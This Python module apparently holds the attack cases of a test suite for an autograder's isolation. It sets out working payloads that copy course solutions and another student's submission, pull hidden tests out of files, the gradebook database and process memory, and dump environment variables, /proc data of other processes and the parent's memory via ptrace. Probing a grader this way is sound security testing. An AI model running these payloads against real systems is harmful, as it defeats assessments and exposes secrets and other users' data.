"""Attacks that read what is not theirs, to answer with it or to carry it away."""

from .attack import WRONG, Attack, before

TAKE = """
import os, pathlib
def take(found, name="taken"):
    text = found if isinstance(found, str) else found.decode("latin-1")
    print(text[:2000])
    with open("@LOOT@/" + name, "a", encoding="utf-8") as file:
        file.write(text + "\\n")
"""
# A notebook's answers, run instead of one's own. Later cells would define the names again.
COPY = """
import json, pathlib, re
def copied(place):
    for cell in json.loads(pathlib.Path(place).read_text(encoding="utf-8"))["cells"]:
        claims = cell["metadata"].get("nbgrader", {})
        if cell["cell_type"] == "code" and claims.get("solution"):
            source = "".join(cell["source"])
            yield claims["grade_id"], re.sub("### STUB.*?### END", "### END", source, flags=re.S)
"""


def copying(place: str) -> dict[str, str]:
    """Return answers that are those of the notebook in `place`."""
    start = f"{COPY}\nfound = dict(copied({place!r}))\n"
    answers = {name: f"exec(found[{name!r}])\n" for name in WRONG}
    return {**answers, "forward": start + answers["forward"]}


ATTACKS = [
    Attack(
        "the solutions",
        "Opens the course's solutions and answers with them.",
        copying("@COURSE@/solutions/03_two_weights/two_weights.ipynb"),
        quick=True,
    ),
    Attack(
        "another submission",
        "Opens what another student handed in and answers with it.",
        copying("@COURSE@/gradebook/submitted/a-victim/03_two_weights/two_weights.ipynb"),
        quick=True,
    ),
    Attack(
        "hidden tests in files",
        "Carries away every file that holds hidden tests.",
        before(
            TAKE
            + """
for place in pathlib.Path("@COURSE@").rglob("*.ipynb"):
    text = place.read_text(encoding="utf-8")
    if "HIDDEN TESTS" in text:
        take(text)
"""
        ),
    ),
    Attack(
        "hidden tests in the gradebook",
        "Reads the check cells from the gradebook's database.",
        before(
            TAKE
            + """
import sqlite3
book = sqlite3.connect("file:@COURSE@/gradebook/gradebook.db?mode=ro", uri=True)
for (source,) in book.execute("select source from source_cell"):
    take(source)
"""
        ),
    ),
    Attack(
        "hidden tests on their way",
        "Has IPython tell it the text of every cell before it runs.",
        before(
            TAKE
            + """
get_ipython().events.register("pre_run_cell", lambda info: take(info.raw_cell))
"""
        ),
        quick=True,
    ),
    Attack(
        "hidden tests in memory",
        "Searches frames and all objects of the program for hidden tests.",
        before(
            TAKE
            + """
import gc, sys
def look():
    for thing in gc.get_objects():
        values = thing.values() if type(thing) is dict else thing if type(thing) is list else ()
        for value in list(values):
            if type(value) is str and "BEGIN HIDDEN" + " TESTS" in value:
                take(value)
look()
frame = sys._getframe()
while frame is not None:
    take(str(list(frame.f_locals)))
    for value in frame.f_locals.values():
        if type(value) is str and "BEGIN HIDDEN" + " TESTS" in value:
            take(value)
    frame = frame.f_back
get_ipython().events.register("post_run_cell", lambda result: look())
"""
        ),
    ),
    Attack(
        "the points of the tests",
        "Notes the arguments it is called with, and the check's own points by the frames.",
        {
            **WRONG,
            "forward": """
import sys
seen = []
def forward(x, w1, w2):
    seen.append((x, w1, w2))
    frame = sys._getframe(1)
    while frame is not None:
        if "at" in frame.f_locals and "self" in frame.f_locals:
            right = [frame.f_locals["self"].reference(*point) for point in frame.f_locals["at"]]
            return right[len(seen) - 1 if len(seen) <= 3 else len(seen) - 4]
        frame = frame.f_back
    return 0.0, 0.0
""",
        },
    ),
    Attack(
        "the environment",
        "Carries the environment of the grader away.",
        before(
            TAKE
            + """
take(str(dict(os.environ)))
for place in ("/proc/self/environ", f"/proc/{os.getppid()}/environ", "/proc/1/environ"):
    try:
        take(pathlib.Path(place).read_bytes())
    except OSError:
        pass
"""
        ),
        quick=True,
    ),
    Attack(
        "other processes",
        "Reads environment, command line and folders of every process in `/proc`.",
        before(
            TAKE
            + """
for process in pathlib.Path("/proc").glob("[0-9]*"):
    if process.name == str(os.getpid()):
        continue
    for name in ("environ", "cmdline", "maps", "stack"):
        try:
            take((process / name).read_bytes())
        except OSError:
            pass
    for name in ("cwd", "root"):
        try:
            place = "@COURSE@/solutions/03_two_weights/two_weights.ipynb"
            take((process / name / place.lstrip("/")).read_bytes())
        except OSError:
            pass
"""
        ),
    ),
    Attack(
        "the memory of the grader",
        "Reads the memory of its parent through `/proc` and `process_vm_readv`.",
        before(
            TAKE
            + """
import ctypes, re
parent = os.getppid()
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace(16, parent, None, None)
try:
    with open(f"/proc/{parent}/maps") as maps, open(f"/proc/{parent}/mem", "rb", 0) as memory:
        for line in maps:
            start, end, kind = re.match("(\\\\w+)-(\\\\w+) (....)", line).groups()
            size = min(int(end, 16) - int(start, 16), 2**26)
            if kind.startswith("rw"):
                try:
                    memory.seek(int(start, 16))
                    held = memory.read(size)
                except (OSError, ValueError, OverflowError):
                    continue
                for found in re.finditer(b"### BEGIN HIDDEN TESTS.{300}", held, re.S):
                    take(found.group())
except OSError:
    pass
"""
        ),
    ),
    Attack(
        "files left open",
        "Reads whatever files and sockets it has inherited.",
        before(
            TAKE
            + """
import stat
for number in range(3, 256):
    try:
        if stat.S_ISREG(os.fstat(number).st_mode):
            take(os.pread(number, 10**6, 0))
        os.set_inheritable(number, True)
    except OSError:
        pass
"""
        ),
    ),
]
